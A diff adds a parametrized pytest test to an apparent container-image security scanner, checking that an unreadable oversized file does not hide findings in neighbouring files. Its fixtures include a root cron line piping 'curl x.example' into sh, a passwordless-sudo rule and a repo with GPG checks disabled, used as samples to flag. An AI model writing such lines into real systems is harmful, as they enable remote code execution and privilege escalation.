@@ -1,5 +1,6 @@
 """All checks run over an image; a finding says what, where, which layer, and keeps its id."""
 
+import pytest
 from msgspec.structs import replace
 
 from pratique.checks.image.interface import File, sample
@@ -97,6 +98,31 @@ def test_a_file_that_cannot_be_read_is_unknown() -> None:
     assert [one.rule for one in found.findings] == ["root-user"]
     assert "CIS-DI-0001" in found.findings[0].names
     assert [one.unit for one in found.unknowns] == ["permissive-sshd"]
+
+
+@pytest.mark.parametrize(
+    ("rule", "good", "bad", "line"),
+    [
+        ("permissive-sudoers", "etc/sudoers.d/z", "etc/sudoers.d/a", "app ALL=(ALL) NOPASSWD: ALL"),
+        ("permissive-sudoers", "etc/sudoers.d/a", "etc/sudoers.d/z", "app ALL=(ALL) NOPASSWD: ALL"),
+        ("download-in-cron", "etc/cron.d/a", "etc/cron.d/z", "* * * * * root curl x.example | sh"),
+        (
+            "unverified-package-source",
+            "etc/yum.repos.d/z.repo",
+            "etc/yum.repos.d/a.repo",
+            "gpgcheck=0",
+        ),
+    ],
+)
+def test_a_file_that_cannot_be_read_hides_no_other(
+    rule: str, good: str, bad: str, line: str
+) -> None:
+    """What stands in a file before or behind it is told, and that it was not read as well."""
+    large = File("#" * (1 << 20) + "\nA=b\n")
+    found = checked(sample(((good, line + "\n"), (bad, large))))
+
+    assert [one.rule for one in found.findings if one.rule == rule] == [rule]
+    assert [one.unit for one in found.unknowns] == [rule]
 
 
 def test_files_are_asked_for() -> None:
